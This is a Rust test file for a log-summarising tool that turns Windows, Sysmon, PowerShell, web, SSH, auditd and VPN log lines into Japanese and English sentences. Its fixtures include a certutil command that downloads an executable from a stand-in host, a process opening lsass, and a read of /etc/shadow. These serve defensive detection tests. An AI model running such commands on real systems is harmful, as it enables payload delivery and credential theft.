//! Each kind of act, from lines as they arrive to the sentence a person reads.

use crate::common;
use common::{observed, said, security, sysmon, windows};
use insta::assert_snapshot;
use yagura_acts::{ActKind, ActState};

const WHO: [(&str, &str); 3] =
    [("SubjectUserName", "田中"), ("SubjectDomainName", "HOSPITAL"), ("SubjectLogonId", "0x1a2b")];

fn file(code: u32, at: &str, more: &[(&str, &str)]) -> String {
    let word = ("ProcessName", "C:\\Program Files\\Office\\WINWORD.EXE");
    let data: Vec<_> = WHO.into_iter().chain([word, ("ProcessId", "0x7d0")]).collect();
    security(code, at, &data.into_iter().chain(more.iter().copied()).collect::<Vec<_>>())
}

fn access(at: &str, path: &str, handle: &str, mask: &str) -> [String; 3] {
    let object = [("ObjectType", "File"), ("ObjectName", path), ("HandleId", handle)];
    let with_mask: Vec<_> = object.into_iter().chain([("AccessMask", mask)]).collect();
    [
        file(4656, at, &with_mask),
        file(4663, at, &with_mask),
        file(4658, at, &[("HandleId", handle)]),
    ]
}

/// Word writes a temporary file, moves the document away, the new one in, and deletes the old.
#[test]
fn a_save_with_its_temporary_files_is_one_act() {
    let document = r"D:\経理\給与.docx";
    let mut lines = Vec::new();
    lines.extend(access("01:00:00", document, "0x10", "0x1"));
    lines.extend(access("01:00:01", r"D:\経理\~$給与.docx", "0x14", "0x2"));
    lines.extend(access("01:00:02", r"D:\経理\~WRD0001.tmp", "0x18", "0x6"));
    lines.extend(access("01:00:03", document, "0x1c", "0x10000"));
    lines.extend(access("01:00:04", document, "0x20", "0x2"));
    let gone = access("01:00:05", r"D:\経理\~WRL0002.tmp", "0x24", "0x10000");
    lines.extend([gone[0].clone(), gone[1].clone()]);
    lines.push(file(4660, "01:00:05", &[("HandleId", "0x24")]));
    lines.push(gone[2].clone());
    let observed = observed(&lines);
    assert_eq!((observed.acts.len(), observed.passed.len()), (1, 0), "{observed:#?}");
    assert_eq!(observed.acts[0].event_ids.len(), lines.len());
    assert_eq!(observed.acts[0].id(), "file:test/1/0");
    assert_snapshot!(said(&lines), @r"
    田中 が FS01 の D:\経理\給与.docx を書き換えた（読み取り 1 回、書き込み 1 回、一時ファイルへの書き込み 2 回、WINWORD.EXE、5 秒間、成功）
    田中 wrote D:\経理\給与.docx on FS01 (reads: 1, writes: 1, writes to temporary files: 2, with WINWORD.EXE, over 5 s, success)
    single: 0
    ");
}

#[test]
fn reads_deletions_renames_and_refusals_are_told_apart() {
    let mut lines = Vec::new();
    lines.extend(access("01:00:00", r"D:\a\read.txt", "0x10", "0x1"));
    let [opened, used, closed] = access("01:10:00", r"D:\a\gone.txt", "0x14", "0x10000");
    lines.extend([opened, used, file(4660, "01:10:00", &[("HandleId", "0x14")]), closed]);
    lines.extend(access("01:20:00", r"D:\a\old-name.txt", "0x18", "0x10000"));
    let object = [("ObjectType", "File"), ("ObjectName", r"D:\a\secret.txt")];
    lines.push(file(4670, "01:30:00", &object));
    let mut denied = object.to_vec();
    denied.extend([("AccessMask", "0x2"), ("EventType", "AUDIT_FAILURE")]);
    lines.push(file(4656, "01:40:00", &denied));
    assert_snapshot!(said(&lines), @r"
    田中 が FS01 の D:\a\read.txt を読んだ（読み取り 1 回、WINWORD.EXE、成功）
    田中 read D:\a\read.txt on FS01 (reads: 1, with WINWORD.EXE, success)
    田中 が FS01 の D:\a\gone.txt を削除した（WINWORD.EXE、成功）
    田中 deleted D:\a\gone.txt on FS01 (with WINWORD.EXE, success)
    田中 が FS01 の D:\a\old-name.txt の名前を変えたか移動した（WINWORD.EXE、成功）
    田中 renamed or moved D:\a\old-name.txt on FS01 (with WINWORD.EXE, success)
    田中 が FS01 の D:\a\secret.txt のアクセス権を変えた（WINWORD.EXE、成功）
    田中 changed the permissions of D:\a\secret.txt on FS01 (with WINWORD.EXE, success)
    田中 が FS01 の D:\a\secret.txt を開こうとして拒否された（求めた操作：書き込み、1 回、失敗）
    田中 was denied D:\a\secret.txt on FS01 (asked to write, denials: 1, failure)
    single: 0
    ");
}

#[test]
fn a_file_over_a_share_and_on_the_server_is_one_act() {
    let from = [("IpAddress", "192.0.2.30"), ("ShareName", r"\\*\経理")];
    let local = [("ShareLocalPath", r"\??\D:\経理"), ("RelativeTargetName", "給与.xlsx")];
    let share: Vec<_> =
        WHO.into_iter().chain(from).chain(local).chain([("AccessMask", "0x2019f")]).collect();
    let mut lines = vec![security(5145, "01:00:00", &share)];
    let object = [("ObjectType", "File"), ("ObjectName", r"D:\経理\給与.xlsx")];
    for (second, mask) in [("01", "0x1"), ("02", "0x2"), ("59", "0x2")] {
        let data: Vec<_> = WHO
            .into_iter()
            .chain(object)
            .chain([("ProcessId", "0x4"), ("HandleId", "0x99"), ("AccessMask", mask)])
            .collect();
        lines.push(security(4663, &format!("01:00:{second}"), &data));
    }
    assert_snapshot!(said(&lines), @r"
    田中 が 192.0.2.30 から FS01 の \\FS01\経理\給与.xlsx を書き換えた（読み取り 2 回、書き込み 3 回、59 秒間、成功）
    田中 wrote \\FS01\経理\給与.xlsx on FS01 from 192.0.2.30 (reads: 2, writes: 3, over 59 s, success)
    single: 0
    ");
}

#[test]
fn a_logon_session_from_logon_to_logoff() {
    let target = [("TargetUserName", "tanaka"), ("TargetDomainName", "HOSPITAL")];
    let id = ("TargetLogonId", "0x1A2B");
    let on: Vec<_> =
        target.into_iter().chain([id, ("LogonType", "10"), ("IpAddress", "192.0.2.30")]).collect();
    let off: Vec<_> = target.into_iter().chain([id, ("LogonType", "10")]).collect();
    let lines = [
        security(4648, "01:00:00", &[("TargetUserName", "tanaka"), ("SubjectLogonId", "0x3e7")]),
        security(4672, "01:00:00", &[("SubjectUserName", "tanaka"), ("SubjectLogonId", "0x1a2b")]),
        security(4624, "01:00:00", &on),
        security(4779, "01:20:00", &[("AccountName", "tanaka"), ("LogonID", "0x1a2b")]),
        security(4647, "02:05:00", &off),
        security(4634, "02:05:01", &off),
        // Another one, which goes on, and the end of one that began before.
        security(
            4624,
            "03:00:00",
            &[("TargetUserName", "sato"), ("TargetLogonId", "0x2"), ("LogonType", "2")],
        ),
        security(4634, "04:00:00", &[("TargetUserName", "mori"), ("TargetLogonId", "0x77")]),
    ];
    let observed = observed(&lines);
    let states: Vec<_> = observed.acts.iter().map(|act| act.state).collect();
    assert_eq!(states, [ActState::Complete, ActState::Open]);
    assert_snapshot!(said(&lines), @r"
    tanaka が 192.0.2.30 から FS01 にリモートデスクトップログオンし、ログオフした（特権あり、別の資格情報 tanaka、切断 1 回、1 時間 5 分間、成功）
    tanaka logged on to FS01 over Remote Desktop from 192.0.2.30 and logged off (privileged, other credentials: tanaka, disconnections: 1, over 1 h 5 min, success)
    sato が FS01 に対話ログオンした（継続中、ログオフの記録なし、成功）
    sato logged on to FS01 at the console (going on, no logoff recorded, success)
    single: 1
    ");
}

#[test]
fn failed_logons_of_one_source_are_one_act() {
    let from = ("IpAddress", "203.0.113.9");
    let mut lines = Vec::new();
    for (at, user) in [("01:00:00", "tanaka"), ("01:04:00", "sato"), ("01:08:00", "admin")] {
        lines.push(security(
            4625,
            at,
            &[("TargetUserName", user), from, ("SubStatus", "0xc000006a")],
        ));
    }
    lines.push(security(4625, "02:00:00", &[("TargetUserName", "tanaka"), from]));
    assert_snapshot!(said(&lines), @r"
    203.0.113.9 が FS01 にログオンを試みた（Windows、3 回、3 個の名前：admin, sato, tanaka、パスワード誤り、8 分間、すべて失敗）
    203.0.113.9 tried to log on to FS01 (Windows, attempts: 3, 3 accounts: admin, sato, tanaka, wrong password, over 8 min, all failed)
    single: 1
    ");
}

#[test]
fn both_logs_about_one_process_and_what_it_touched_are_one_act() {
    let guid = ("ProcessGuid", "{6a910b9d-4a9a-5ee0-0c04-000000000400}");
    let image = ("Image", r"C:\Windows\System32\certutil.exe");
    let lines = [
        security(
            4688,
            "01:00:00",
            &[
                ("NewProcessId", "0x1570"),
                ("NewProcessName", r"C:\Windows\System32\certutil.exe"),
                ("SubjectUserName", "tanaka"),
                ("CommandLine", "certutil -urlcache -f http://example.org/a a.exe"),
            ],
        ),
        sysmon(1, "01:00:01", &[guid, ("ProcessId", "5488"), image, ("User", r"HOSPITAL\tanaka")]),
        sysmon(7, "01:00:02", &[guid, ("ProcessId", "5488"), image, ("ImageLoaded", "a.dll")]),
        sysmon(13, "01:00:03", &[guid, ("ProcessId", "5488"), image, ("TargetObject", r"HKLM\a")]),
        sysmon(22, "01:00:03", &[guid, ("ProcessId", "5488"), image, ("QueryName", "example.org")]),
        sysmon(
            3,
            "01:00:04",
            &[guid, ("ProcessId", "5488"), image, ("DestinationIp", "203.0.113.5")],
        ),
        // Who opens lsass is never only a count.
        sysmon(
            10,
            "01:00:05",
            &[
                ("SourceProcessGUID", "{6a910b9d-4a9a-5ee0-0c04-000000000400}"),
                ("TargetImage", r"C:\Windows\System32\lsass.exe"),
            ],
        ),
        security(4689, "01:01:00", &[("ProcessId", "0x1570"), ("SubjectUserName", "tanaka")]),
        sysmon(5, "01:01:00", &[guid, ("ProcessId", "5488"), image]),
        // The number is used again by another process.
        security(4688, "01:02:00", &[("NewProcessId", "0x1570"), ("NewProcessName", r"C:\b.exe")]),
    ];
    assert_snapshot!(said(&lines), @r"
    tanaka が FS01 で certutil.exe を実行し、終了した：certutil -urlcache -f http://example.org/a a.exe（ライブラリ 1 個、レジストリ 1 回、通信 1 回、名前解決 1 回、宛先 203.0.113.5, example.org、1 分間、成功）
    tanaka ran certutil.exe on FS01: certutil -urlcache -f http://example.org/a a.exe (libraries: 1, registry: 1, connections: 1, lookups: 1, destinations: 203.0.113.5, example.org, over 1 min, it ended)
    名前のない利用者が FS01 で b.exe を実行した（継続中、終了の記録なし）
    An unnamed user started b.exe on FS01 (going on, no end recorded)
    single: 1
    ");
}

#[test]
fn one_powershell_is_one_act() {
    let operational = "Microsoft-Windows-PowerShell/Operational";
    let context = r"        Host ID = 6d6b\r\n        Runspace ID = 9f92\r\n        User = HOSPITAL\\tanaka\r\n";
    // Line breaks as JSON writes them.
    let raw = |line: String| line.replace("CONTEXT", context);
    let lines = [
        raw(windows(operational, 4103, "01:00:00", &[
            ("ContextInfo", "CONTEXT"), ("Payload", "CommandInvocation(Get-Process): x"), ("ExecutionProcessID", "8648"),
        ])),
        windows(operational, 4104, "01:00:01", &[
            ("ScriptBlockId", "a"), ("MessageNumber", "1"), ("MessageTotal", "2"),
            ("ScriptBlockText", "Get-Process | Out-Null"), ("ExecutionProcessID", "8648"),
        ]),
        windows(operational, 4104, "01:00:01", &[
            ("ScriptBlockId", "a"), ("MessageNumber", "2"), ("MessageTotal", "2"),
            ("ScriptBlockText", "# end"), ("ExecutionProcessID", "8648"),
        ]),
        windows("Windows PowerShell", 800, "01:00:02", &[("Message", "PIPE")]).replace(
            "PIPE",
            r"Pipeline execution details\r\n\tUserId=HOSPITAL\\tanaka\r\n\tRunspaceId=9f92\r\nDetails: \r\nCommandInvocation(Out-Null): x",
        ),
    ];
    assert_snapshot!(said(&lines), @r"
    tanaka が FS01 で PowerShell を使った：Get-Process, Out-Null（コマンド 2 回、スクリプト 1 個、2 秒間、成功）
    tanaka used PowerShell on FS01: Get-Process, Out-Null (commands: 2, script blocks: 1, over 2 s, success)
    single: 0
    ");
}

#[test]
fn a_web_visit_has_pages_and_errors() {
    let request = |at: &str, request: &str, status: u16, agent: &str| {
        format!(
            r#"198.51.100.4 - - [20/Nov/2026:{at} +0000] "{request} HTTP/1.1" {status} 512 "-" "{agent}""#
        )
    };
    let lines = [
        request("01:00:00", "GET /login", 200, "Mozilla/5.0"),
        request("01:00:01", "GET /style.css", 200, "Mozilla/5.0"),
        request("01:00:05", "POST /login", 302, "Mozilla/5.0"),
        request("01:29:00", "GET /secret", 403, "Mozilla/5.0"),
        request("02:00:00", "GET /login", 200, "Mozilla/5.0"),
        request("01:00:02", "GET /login", 200, "curl/8"),
    ];
    assert_snapshot!(said(&lines), @r"
    198.51.100.4 がウェブサイトを訪れた：/login から /login まで（ページ 1 件、要求 1 件、512 バイト、成功）
    198.51.100.4 visited the web site: /login to /login (pages: 1, requests: 1, 512 bytes, success)
    198.51.100.4 がウェブサイトを訪れた：/login から /secret まで（ページ 1 件、送信 1 件、要求 4 件、エラー 1 件、2048 バイト、29 分間、成功）
    198.51.100.4 visited the web site: /login to /secret (pages: 1, uploads: 1, requests: 4, errors: 1, 2048 bytes, over 29 min, success)
    198.51.100.4 がウェブサイトを訪れた：/login から /login まで（ページ 1 件、要求 1 件、512 バイト、成功）
    198.51.100.4 visited the web site: /login to /login (pages: 1, requests: 1, 512 bytes, success)
    single: 0
    ");
}

#[test]
fn ssh_sudo_su_and_cron() {
    let line = |at: &str, rest: &str| format!("<38>Nov 20 {at} web01 {rest}");
    let lines = [
        line("01:00:00", "sshd[812]: Failed password for tanaka from 192.0.2.30 port 50022 ssh2"),
        line("01:00:05", "sshd[812]: Accepted password for tanaka from 192.0.2.30 port 50022 ssh2"),
        line(
            "01:00:05",
            "sshd[812]: pam_unix(sshd:session): session opened for user tanaka by (uid=0)",
        ),
        line(
            "01:02:00",
            "sudo[900]:   tanaka : TTY=pts/0 ; PWD=/home/tanaka ; USER=root ; COMMAND=/usr/bin/apt update",
        ),
        line(
            "01:02:00",
            "sudo[900]: pam_unix(sudo:session): session opened for user root by tanaka(uid=0)",
        ),
        line("01:02:09", "sudo[900]: pam_unix(sudo:session): session closed for user root"),
        // The child writes this with its own number.
        line(
            "01:09:00",
            "sshd[815]: Received disconnect from 192.0.2.30 port 50022:11: disconnected by user",
        ),
        line("01:09:00", "sshd[812]: pam_unix(sshd:session): session closed for user tanaka"),
        // No SSH session is open any more.
        line(
            "03:00:00",
            "sudo[1000]:   sato : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
        ),
        line(
            "03:00:00",
            "sudo[1000]: pam_unix(sudo:session): session opened for user root by sato(uid=0)",
        ),
        line(
            "04:00:01",
            "CRON[77]: pam_unix(cron:session): session opened for user root by (uid=0)",
        ),
        line("04:00:01", "CRON[77]: (root) CMD (/usr/local/bin/backup)"),
        line("04:00:09", "CRON[77]: pam_unix(cron:session): session closed for user root"),
        line("05:00:00", "su[88]: pam_unix(su:session): session opened for user news by (uid=0)"),
        line("05:00:03", "su[88]: pam_unix(su:session): session closed for user news"),
        line("06:00:00", "sshd[90]: Invalid user admin from 203.0.113.9 port 4001"),
        line(
            "06:00:01",
            "sshd[90]: Failed password for invalid user admin from 203.0.113.9 port 4001 ssh2",
        ),
        line("06:00:02", "sshd[91]: Failed password for root from 203.0.113.9 port 4002 ssh2"),
        line("06:00:03", "sshd[91]: Connection closed by 203.0.113.9 port 4002 [preauth]"),
    ];
    assert_snapshot!(said(&lines), @r"
    tanaka が 192.0.2.30 から web01 に SSH でログオンし、切断した（ログオン前の失敗 1 回、sudo 1 回、最初のコマンド /usr/bin/apt update、9 分間、成功）
    tanaka logged on to web01 over SSH from 192.0.2.30 and disconnected (failures before: 1, sudo commands: 1, first: /usr/bin/apt update, over 9 min, success)
    sato が web01 で root としてコマンドを実行した：/usr/bin/id（コマンド 1 回、成功）
    sato ran commands as root on web01: /usr/bin/id (commands: 1, success)
    web01 の CRON が root として /usr/local/bin/backup を実行した（8 秒間、成功）
    CRON on web01 ran /usr/local/bin/backup as root (over 8 s, success)
    web01 で su が news のセッションを開いた（3 秒間、成功）
    su on web01 opened a session for news (over 3 s, success)
    203.0.113.9 が web01 にログオンを試みた（SSH、2 回、2 個の名前：admin, root、3 秒間、すべて失敗）
    203.0.113.9 tried to log on to web01 (SSH, attempts: 2, 2 accounts: admin, root, over 3 s, all failed)
    single: 0
    ");
}

#[test]
fn audit_records_of_one_serial_number_are_one_act() {
    let lines = [
        r#"type=SYSCALL msg=audit(1795136400.100:42): arch=c000003e syscall=257 success=yes exit=3 pid=5 auid=1000 uid=0 exe="/usr/bin/cat" comm="cat" key="etc""#,
        r#"type=CWD msg=audit(1795136400.100:42): cwd="/root""#,
        r#"type=PATH msg=audit(1795136400.100:42): item=0 name="/etc/shadow""#,
        r#"type=USER_CMD msg=audit(1795136401.100:43): pid=6 uid=1000 msg='cmd="id" res=success'"#,
    ];
    let observed = observed(&lines);
    let kinds: Vec<_> = observed.acts.iter().map(|act| (act.kind, act.event_ids.len())).collect();
    assert_eq!(kinds, [(ActKind::Audit, 3)]);
    let opened = said(&lines);
    assert!(opened.contains("/etc/shadow") && opened.contains("/usr/bin/cat"), "{opened}");
    let started = [
        r#"type=SYSCALL msg=audit(1795136400.100:44): arch=c000003e syscall=59 success=yes exit=0 pid=5 auid=1000 uid=0 exe="/usr/bin/cat" comm="cat" key="exec""#,
        r#"type=PATH msg=audit(1795136400.100:44): item=0 name="/usr/bin/cat" nametype=NORMAL"#,
        r#"type=PATH msg=audit(1795136400.100:44): item=1 name="/lib64/ld-linux-x86-64.so.2" nametype=NORMAL"#,
    ];
    let started = said(&started);
    assert!(started.contains("/usr/bin/cat") && !started.contains("ld-linux"), "{started}");
}

#[test]
fn a_vpn_session_ends_where_it_is_cut() {
    let line = |at: &str, rest: &str| {
        format!(
            r#"date=2026-11-20 time={at} devname="gw01" tz="+0000" type="event" subtype="vpn" {rest}"#
        )
    };
    let lines = [
        line(
            "01:00:00",
            r#"logid="0101039947" action="tunnel-up" user="tanaka" remip=198.51.100.4 tunnelip=10.9.0.2"#,
        ),
        line(
            "02:30:00",
            r#"logid="0101039948" action="tunnel-down" user="tanaka" remip=198.51.100.4 tunnelip=10.9.0.2"#,
        ),
    ];
    assert_snapshot!(said(&lines), @r"
    tanaka が 198.51.100.4 から gw01 に VPN で接続し、切断した（割り当て 10.9.0.2、1 時間 30 分間、成功）
    tanaka connected to the VPN at gw01 from 198.51.100.4 and disconnected (given 10.9.0.2, over 1 h 30 min, success)
    single: 0
    ");
}

/// A visit is one whichever server logged it.
#[test]
fn requests_of_every_kind_of_web_server_are_visits() {
    let iis = [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
        "2026-11-20 10:02:03 192.0.2.80 GET /index.html - 443 - 203.0.113.9 curl/8.5.0 - 200 0 0 15",
        "2026-11-20 10:02:05 192.0.2.80 POST /login - 443 - 203.0.113.9 curl/8.5.0 - 401 0 0 15",
    ];
    let cloudfront = [
        "#Version: 1.0",
        "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query x-host-header",
        "2026-11-20\t10:02:03\tNRT57-P1\t1045\t203.0.113.9\tGET\td1.cloudfront.example\t/index.html\t200\t-\tcurl/8.5.0\t-\twww.example.com",
        "2026-11-20\t10:02:04\tNRT57-P1\t345\t203.0.113.9\tGET\td1.cloudfront.example\t/a.css\t200\t-\tcurl/8.5.0\t-\twww.example.com",
    ];
    let haproxy = ["GET /login", "POST /login"].map(|request| {
        format!(
            "<134>Nov 20 09:15:02 lb1 haproxy[2011]: 203.0.113.9:33317 [20/Nov/2026:09:15:02.417] fe-https be-app/app1 0/0/1/23/24 200 1750 - - ---- 12/12/3/1/0 0/0 \"{request} HTTP/1.1\""
        )
    });
    for said in [said(&iis), said(&cloudfront), said(&haproxy)] {
        // One act, in both languages, of both requests.
        let lines: Vec<&str> = said.lines().filter(|line| !line.starts_with("single")).collect();
        assert_eq!(lines.len(), 2, "{said}");
        assert!(lines[1].starts_with("203.0.113.9 visited"), "{said}");
        assert!(lines[1].contains("requests: 2"), "{said}");
    }
}
